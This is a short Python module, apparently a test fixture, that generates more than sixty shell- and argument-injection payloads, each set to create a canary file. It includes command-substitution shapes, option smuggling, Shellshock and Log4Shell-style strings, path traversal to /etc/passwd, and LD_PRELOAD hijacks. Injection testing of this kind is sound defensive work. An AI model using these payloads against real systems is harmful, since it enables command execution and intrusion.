"""Texts that become a command, an option, a variable or a path wherever somebody forgot what they are."""

from pathlib import Path

_SHAPES = [
    *("$({})", "`{}`", "; {}", "& {} &", "&& {}", "| {}", "|| {}", "\n{}\n", "\r\n{}", "'; {}; '", '"; {}; "', "%0a{}"),
    *("x$({})", "a`{}`b", "x; {} #", "--a=$({})", "-oProxyCommand={}", "--exec={}", "--call={}", "-c {}", "--eval={}"),
    *(
        "${{x:-$({})}}",
        "$(({}))",
        "<({})",
        ">({})",
        "{{{},}}",
        "$'\\n'{}",
        "\\;{}",
        "\\$({})",
        "%COMSPEC% /c {}",
        "^& {}",
    ),
    *(
        "$(powershell -c {})",
        "cmd.exe /c {}",
        "() {{ :;}}; {}",
        "__import__('os').system('{}')",
        "{{{{{}}}}}",
        "#{{`{}`}}",
    ),
    *("<%= `{}` %>", "${{jndi:ldap://x/{}}}", "!{}", "@{}", "file://$({})", "javascript:{}", "git+ssh://$({})/x"),
]
_PLAIN = [
    *("$IFS", "*", "~", "${HOME}", "$PATH", "-c", "--", "-", "-e", "--help", "..", "../../canary", "/etc/passwd"),
    *(
        "LD_PRELOAD=/tmp/x.so",
        "PATH=.",
        "NODE_OPTIONS=--require=/tmp/x",
        "BASH_ENV=/tmp/x",
        "\ufeff",
        "ü\u202e",
        "''",
        " ",
    ),
]


def payloads(canary: Path) -> list[str]:
    """More than sixty; with any of them run, there would be a file."""
    return [*(shape.format(f"touch {canary}") for shape in _SHAPES), f">{canary}", f"| tee {canary}", *_PLAIN]
